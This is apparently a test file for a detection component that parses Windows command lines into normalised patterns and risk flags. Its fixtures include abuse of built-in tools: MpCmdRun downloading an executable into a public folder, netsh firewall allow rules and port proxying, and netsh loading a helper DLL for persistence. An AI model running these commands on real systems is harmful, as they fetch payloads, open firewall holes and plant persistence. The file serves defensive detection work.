import { describe, expect, test } from 'vitest'
import { readToolUse } from './read-tool-use'

describe('tools without a grammar', () => {
  test.each([
    [
      'mpcmdrun.exe',
      '"C:\\Program Files\\Windows Defender\\MpCmdRun.exe" -DownloadFile -url https://example.com/a.exe -path C:\\Users\\Public\\a.exe',
      'mpcmdrun /downloadfile /url https://example.com/*.exe /path <public>\\a.exe',
      'mpcmdrun|/downloadfile|url|exe',
      ['remote-url'],
      null,
    ],
    [
      'mpcmdrun.exe',
      'MpCmdRun.exe SignatureUpdate -ScheduleJob -RestrictPrivileges',
      'mpcmdrun signatureupdate /schedulejob /restrictprivileges',
      'mpcmdrun|signatureupdate|-|-',
      [],
      null,
    ],
    [
      'netsh.exe',
      'netsh advfirewall firewall add rule name="a b" dir=in action=allow program="C:\\Users\\ann\\AppData\\Roaming\\Vendor\\a.exe"',
      'netsh advfirewall firewall add rule name=a b dir=in action=allow program=<roaming>\\vendor\\a.exe',
      'netsh|advfirewall|roaming|exe',
      [],
      null,
    ],
    [
      'netsh.exe',
      'netsh interface portproxy add v4tov4 listenport=8080 connectaddress=10.1.2.3 connectport=443',
      'netsh interface portproxy add v4tov4 listenport=<n> connectaddress=<ip> connectport=<n>',
      'netsh|interface|-|-',
      [],
      null,
    ],
    [
      'netsh.exe',
      'netsh add helper C:\\Users\\Public\\a.dll',
      'netsh add helper <public>\\a.dll',
      'netsh|add|public|dll',
      ['launches-program', 'public-folder'],
      null,
    ],
  ])('%s: %s', (slug, line, pattern, shape, facts, hosted) => {
    expect(readToolUse(slug, line, `C:\\Windows\\System32\\${slug}`)).toMatchObject({
      pattern,
      shape,
      facts,
      hosted,
    })
  })
})
